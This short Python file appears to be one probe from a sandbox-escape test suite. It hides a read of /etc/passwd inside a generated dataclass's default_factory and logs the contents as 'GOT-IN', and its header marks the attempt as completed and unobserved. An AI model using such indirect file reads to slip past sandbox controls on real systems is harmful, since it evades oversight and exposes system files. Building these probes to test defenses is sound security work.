# id: L35
# family: language
# goal: run text as the default of a generated class
# finding: PY101 PY201
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import dataclasses


def attack(ctx, bar):
    made = dataclasses.make_dataclass(
        "Made", [("x", int, dataclasses.field(default_factory=lambda: open("/etc/passwd").read(20)))]
    )
    return made().x


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
